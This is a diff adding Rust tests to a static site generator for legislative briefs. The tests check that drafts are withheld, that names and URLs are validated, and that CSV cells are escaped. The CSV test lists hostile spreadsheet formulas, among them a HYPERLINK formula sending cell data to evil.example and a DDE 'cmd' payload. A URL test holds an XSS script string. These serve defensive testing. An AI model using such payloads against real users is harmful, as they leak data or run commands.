@@ -37,8 +37,9 @@ fn editor_backups_are_not_published() {
         .write("content/images/desktop.ini", "x")
         .write("content/images/map.png", "png");
     let out = site.build_ok();
-    // The one warning: the test config's base_url is an example host.
-    assert!(stderr(&out).contains("with 1 warning"), "{}", stderr(&out));
+    // The test config's base_url is an example host, and each backup in
+    // content/briefs/ is named (never copied).
+    assert!(stderr(&out).contains("with 5 warnings"), "{}", stderr(&out));
     assert_eq!(site.files_under("public/images"), vec!["map.png"]);
     assert!(!site.exists("public/briefs"), "{:?}", site.files_under("public"));
     assert!(!site.exists("public/Thumbs.db"));
@@ -550,4 +551,224 @@ fn serve_does_not_follow_a_brief_linked_out_of_the_site() {
     });
     let (status, body) = serve.get("/en/briefs/secret/");
     assert!(status == 404 && !body.contains("Secret paragraph."), "{}", serve.log());
+}
+
+#[test]
+fn drafts_under_other_names_in_briefs_are_warned_and_never_published() {
+    let draft =
+        "+++\ntitle = \"Draft\"\ncommittee = \"itb\"\nmeeting = 2023-05-08\ndraft = true\n+++\nSECRET DRAFT TEXT\n";
+    let names = [
+        "secret.en.MD",
+        "secret.en.Md",
+        "secret.en.mkd",
+        "secret.en.mdown",
+        "secret.en.markdown",
+        "secret.en.txt",
+        "secret.en.md.orig",
+        "secret.en.md.OLD",
+        "secret.en.md.tmp",
+        "secret.en.md.rej",
+        "secret.en.md.save",
+        "secret.en.md.1",
+        "secret.en.md.kate-swp",
+        "secret.en.md.crswap",
+        "secret.en.md.SWP",
+        "old/secret.en.md",
+    ];
+    let mut site = brief_site();
+    for name in names {
+        site = site.write(&format!("content/briefs/{name}"), draft);
+    }
+    for command in ["build", "check"] {
+        let out = site.run(&[command]);
+        assert_eq!(out.status.code(), Some(0), "{command}: {}", stderr(&out));
+        for name in names {
+            let file = name.rsplit('/').next().unwrap();
+            assert_has(
+                &out,
+                &format!(
+                    "content/briefs/{name}:1:1: warning: `{file}` is not a brief (`<slug>.<lang>.md`) and is not published: nothing else in content/briefs/ is copied"
+                ),
+            );
+        }
+    }
+    let published = site.files_under("public");
+    assert!(!published.iter().any(|f| f.contains("secret")), "{published:?}");
+    assert!(!site.exists("public/briefs"), "{published:?}");
+}
+
+#[test]
+fn a_file_name_with_a_line_break_is_printed_on_one_line() {
+    let site = brief_site().write(
+        "content/briefs/bad\nname.en.md",
+        &format!("{}Text.\n", front("T", "itb", "2023-05-08")),
+    );
+    let out = site.build();
+    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
+    assert_has(
+        &out,
+        "content/briefs/bad\\nname.en.md:1:1: error: `bad\\nname` is not a valid slug: use lowercase ASCII letters, digits and single dashes",
+    );
+}
+
+#[test]
+fn base_url_that_is_not_a_url_is_a_located_error() {
+    for (url, problem) in [
+        (
+            r#"https://\"><script>alert(1)</script>"#,
+            r#"`https://"><script>alert(1)</script>` contains a character a URL cannot hold (one of " < > ` { } | \ ^)"#,
+        ),
+        (
+            "https://bad_host!/",
+            "`https://bad_host!/` has a host name that is not one (letters, digits, `-` and `.`, or an IP address)",
+        ),
+    ] {
+        let site = brief_site().write("legbrief.toml", &CONFIG.replacen("https://briefs.example.org", url, 1));
+        let out = site.run(&["build"]);
+        assert_eq!(out.status.code(), Some(1), "{url}: {}", stderr(&out));
+        assert_has(&out, &format!("legbrief.toml:2:12: error in `base_url`: {problem}"));
+        assert!(!site.exists("public"));
+    }
+}
+
+#[test]
+fn a_footnote_defined_twice_is_a_located_error() {
+    let site = brief_site().brief(
+        "beta",
+        "en",
+        &front("Beta", "itb", "2023-05-08"),
+        "Text[^1].\n\n[^1]: First.\n\n[^1]: Second.\n",
+    );
+    let out = site.build();
+    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
+    let err = stderr(&out);
+    assert!(
+        err.contains(":1: error: footnote `[^1]` is defined a second time here: only one note can be shown"),
+        "{err}"
+    );
+    assert!(err.contains("content/briefs/beta.en.md:"), "{err}");
+}
+
+#[test]
+fn a_duplicate_topic_id_gives_only_the_duplicate_error() {
+    let site = brief_site().brief(
+        "beta",
+        "en",
+        &front("Beta", "itb", "2023-05-08"),
+        "## One {#smart-mobility}\n\nText.\n\n## Two {#smart-mobility}\n\nMore.\n",
+    );
+    let out = site.build();
+    let err = stderr(&out);
+    assert!(
+        err.contains("heading id `smart-mobility` is used twice in this brief"),
+        "{err}"
+    );
+    assert!(!err.contains("is not a topic"), "{err}");
+}
+
+#[test]
+fn a_bidi_override_in_a_title_is_warned_about() {
+    let site = brief_site().brief(
+        "beta",
+        "en",
+        &front("Tolls \u{202E}gnp.exe", "itb", "2023-05-08"),
+        "Text.\n",
+    );
+    let out = site.build_ok();
+    let err = stderr(&out);
+    assert!(
+        err.contains("warning in `title`: the title holds the invisible bidi control U+202E"),
+        "{err}"
+    );
+}
+
+#[test]
+fn asset_names_differing_only_in_normalisation_are_warned_about() {
+    let site = brief_site()
+        .write("content/files/caf\u{e9}.pdf", "a")
+        .write("content/files/cafe\u{301}.pdf", "b");
+    let out = site.build_ok();
+    let err = stderr(&out);
+    assert!(
+        err.contains("differ only in letter case or Unicode normalisation"),
+        "{err}"
+    );
+}
+
+#[test]
+fn papers_csv_cells_are_never_formulas() {
+    let hostile = [
+        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\tTabbed",
+    ];
+    let mut papers = String::new();
+    for title in hostile {
+        papers.push_str(&format!(
+            "\n[[papers]]\nbody = \"itb\"\ndate = 2023-05-01\ntitle = {}\n",
+            toml_string(title)
+        ));
+    }
+    let front = front("Beta", "itb", "2023-05-08");
+    let file = format!("+++\n{front}paper_no = \"=1+1\"\n{papers}+++\nText.\n");
+    let site = brief_site().write("content/briefs/beta.en.md", &file);
+    site.build_ok();
+    let csv = site.read("public/data/papers.csv");
+    let mut reader = csv_rows(&csv);
+    let header = reader.remove(0);
+    let title = header.iter().position(|c| c == "title").unwrap();
+    let numbers = header.iter().position(|c| c == "cited_by_paper_no").unwrap();
+    for row in &reader {
+        for cell in row {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a cell a spreadsheet runs: {cell:?}"
+            );
+        }
+    }
+    for original in hostile {
+        assert!(
+            reader.iter().any(|row| row[title] == format!("'{original}")),
+            "{original:?} not shown as text in {reader:?}"
+        );
+    }
+    assert!(reader.iter().any(|row| row[numbers] == "'=1+1"), "{reader:?}");
+}
+
+fn toml_string(s: &str) -> String {
+    format!(
+        "\"{}\"",
+        s.replace('\\', "\\\\").replace('"', "\\\"").replace('\t', "\\t")
+    )
+}
+
+/// An RFC 4180 reader, as a spreadsheet reads the file: quoted fields, `""` for a
+/// quote, CRLF between rows.
+fn csv_rows(text: &str) -> Vec<Vec<String>> {
+    let mut rows = Vec::new();
+    let mut row = Vec::new();
+    let mut field = String::new();
+    let mut chars = text.chars().peekable();
+    let mut quoted = false;
+    while let Some(c) = chars.next() {
+        match (quoted, c) {
+            (true, '"') if chars.peek() == Some(&'"') => {
+                chars.next();
+                field.push('"');
+            }
+            (true, '"') => quoted = false,
+            (true, c) => field.push(c),
+            (false, '"') if field.is_empty() => quoted = true,
+            (false, ',') => row.push(std::mem::take(&mut field)),
+            (false, '\r') if chars.peek() == Some(&'\n') => {}
+            (false, '\n') => {
+                row.push(std::mem::take(&mut field));
+                rows.push(std::mem::take(&mut row));
+            }
+            (false, c) => field.push(c),
+        }
+    }
+    rows
 }
